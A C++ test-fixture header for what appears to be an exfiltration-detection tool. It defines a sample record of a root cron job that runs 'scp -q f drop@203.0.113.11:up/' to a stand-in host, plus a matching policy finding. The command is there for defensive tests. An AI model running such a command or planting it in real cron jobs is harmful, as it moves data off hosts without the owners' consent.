#pragma once

#include "auexfil/audit/stamp.hpp"
#include "auexfil/coverage/host_coverage.hpp"
#include "auexfil/policy/finding.hpp"
#include "auexfil/transfer/fact.hpp"

/// Made-up values that the writers' tests share.
namespace sample {

inline constexpr auexfil::audit::TimeMs kStart = 1'796'173'321'113;  // 2026-12-02T01:02:01.113Z
inline constexpr auexfil::audit::TimeMs kEnd = kStart + 3'757;

/// DESIGN's example: scp of 3 MB by cron.
inline auexfil::transfer::Fact fact() {
  using namespace auexfil::transfer;
  Fact fact;
  fact.id = 0x9f0c000000000001;
  fact.host = "etl-01";
  fact.start = kStart;
  fact.end = kEnd;
  fact.tool = "scp";
  fact.direction = Direction::out;
  fact.automation = Verdict::unattended;
  fact.reasons = {{"cron", "started by cron (pid 311)", auexfil::audit::Stamp{kStart, 512}},
                  {"no-terminal", "no terminal", {}}};
  fact.job = Job{"cron", "/bin/sh -c scp -q f drop@203.0.113.11:up/", {}};
  fact.auid = 0;
  fact.auid_name = "root";
  fact.uid = 0;
  fact.uid_name = "root";
  fact.ses = 3;
  fact.process = {811, "/usr/bin/scp", "scp", {"scp", "-q", "f", "drop@203.0.113.11:up/"}};
  fact.ppid = 810;
  fact.cwd = "/root";
  fact.lineage = {{810, "/usr/bin/dash", "sh", {"/bin/sh", "-c", "scp -q f drop@203.0.113.11:up/"}},
                  {311, "/usr/sbin/cron", "cron", {"/usr/sbin/cron", "-f"}},
                  {1, "/usr/lib/systemd/systemd", "systemd", {}}};
  Destination to;
  to.address = auexfil::audit::IpAddress::v4({203, 0, 113, 11});
  to.port = 22;
  to.transport = Transport::tcp;
  to.direction = Direction::out;
  to.bytes_out = 3'153'717;
  to.basis = Basis::measured;
  to.connections = 1;
  to.first = kStart;
  to.last = kEnd;
  fact.destinations = {to};
  fact.bytes_out = 3'153'717;
  fact.basis = Basis::measured;
  fact.evidence = {{"audit.log.3", 1234, auexfil::audit::Stamp{kStart + 367, 530}, "connect"}};
  return fact;
}

/// The same with nothing but an address in argv: the log holds no bytes.
inline auexfil::transfer::Fact unmeasured_fact() {
  using namespace auexfil::transfer;
  Fact fact = sample::fact();
  fact.host = {};
  fact.auid = {};
  fact.auid_name = {};
  fact.ses = {};
  fact.job = {};
  Destination to;
  to.name = "drop.example.org";
  to.source = Source::argv;
  fact.destinations = {to};
  fact.direction = Direction::unknown;
  fact.bytes_out = {};
  fact.basis = Basis::unknown;
  return fact;
}

inline auexfil::policy::Finding finding() {
  using namespace auexfil::policy;
  Finding finding;
  finding.id = 0xab;
  finding.rule = "bulk-unattended";
  finding.technique = {"T1071.002", "T1048"};
  finding.host = "etl-01";
  finding.role = "default";
  finding.group = {{"host", "etl-01"}, {"destination", "203.0.113.11"}};
  finding.start = kStart;
  finding.end = kEnd;
  finding.limit_bytes = 1 << 20;
  finding.window_s = 86'400;
  finding.bytes_out = 3'153'717;
  finding.basis = auexfil::transfer::Basis::measured;
  finding.destinations = {{"203.0.113.11", 22, 3'153'717, auexfil::transfer::Basis::measured}};
  finding.transfers = {0x9f0c000000000001};
  finding.tool = "scp";
  finding.user = "root";
  finding.auid_user = "root";
  finding.job = auexfil::transfer::Job{"cron", "/bin/sh -c scp -q f drop@203.0.113.11:up/", {}};
  finding.automation = auexfil::transfer::Verdict::unattended;
  finding.command = {"scp", "-q", "f", "drop@203.0.113.11:up/"};
  finding.chain = {"cron", "sh"};
  finding.destinations.front().sender = finding;
  finding.reasons = {"started by cron (pid 311)", "203.0.113.11 is on no allowlist"};
  return finding;
}

inline auexfil::coverage::HostCoverage coverage(const char* host,
                                                auexfil::coverage::CoverageVerdict verdict) {
  auexfil::coverage::HostCoverage coverage;
  coverage.host = host;
  coverage.verdict = verdict;
  coverage.first = kStart;
  coverage.last = kEnd;
  return coverage;
}

}  // namespace sample
